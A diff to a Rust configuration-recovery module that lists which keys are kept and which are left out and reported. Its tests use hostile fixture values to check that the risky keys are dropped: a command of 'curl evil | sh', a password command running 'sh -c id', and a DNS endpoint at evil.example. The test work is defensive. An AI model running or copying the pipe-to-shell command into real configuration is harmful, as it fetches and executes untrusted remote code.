@@ -3,6 +3,7 @@
 //! operator's machine, that say whom its ssh believes, or where programs for the servers come from, are
 //! left out and told; they come from the operator.
 
+use matou_i18n::tr;
 use std::path::Path;
 
 use toml_edit::{DocumentMut, Item, TableLike};
@@ -48,6 +49,7 @@ const TAKEN_KEYS: &[&str] = &[
     "provision.suricata",
     "provision.swap",
     "provision.swappiness",
+    "room.floor",
     "ssh.connect_timeout",
     "ssh.keep_alive",
     "ssh.port",
@@ -59,6 +61,8 @@ const TAKEN_KEYS: &[&str] = &[
     "storage.node",
     "storage.path",
     "theme",
+    "updates.limit",
+    "updates.rehearse",
 ];
 
 /// Keys that a recovery sets anew: that they are left out is not reported.
@@ -202,14 +206,14 @@ fn describe_config_item(path: &str, item: &Item) -> Vec<String> {
 pub(super) fn explain_refused_app_file(text: &str) -> Option<String> {
     let file: AppFile = match toml::from_str(text) {
         Ok(file) => file,
-        Err(e) => return Some(format!("it can't be read: {}", escape_line(e.message()))),
+        Err(e) => return Some(tr!("it can't be read: {}", escape_line(e.message()))),
     };
     let is_name = Path::new(&file.stack).components().count() == 1
         && !file.stack.contains(['/', '\\'])
         && !file.stack.starts_with('.')
         && !file.stack.ends_with(".yml")
         && !file.stack.ends_with(".yaml");
-    (!is_name).then(|| format!("its stack is the file {}", escape_line(&file.stack)))
+    (!is_name).then(|| tr!("its stack is the file {}", escape_line(&file.stack)))
 }
 
 #[cfg(test)]
@@ -258,6 +262,12 @@ password_command = ["sh", "-c", "id"]
 
 [scaleway]
 token_file = "/home/op/token"
+
+[dns]
+provider = "gandi"
+zones = ["example.org"]
+token_file = "/home/op/gandi"
+endpoint = "https://evil.example"
 
 [receivers]
 email = "me@example.org"
@@ -308,6 +318,7 @@ command = ["sh", "-c", "curl evil | sh"]
             "backup.ping_file",
             "[[backup.copies]] away",
             "scaleway.token_file",
+            "dns.endpoint",
             "keys.remove",
             "[[commands]] look",
         ] {
@@ -360,6 +371,8 @@ command = ["sh", "-c", "curl evil | sh"]
             "backup.ping_file",
             // They run on the operator's machine.
             "commands",
+            // Who has the names of the applications, and what they lead to.
+            "dns",
             "edge.ca_file",
             "keys",
             "nodes.docker_socket",
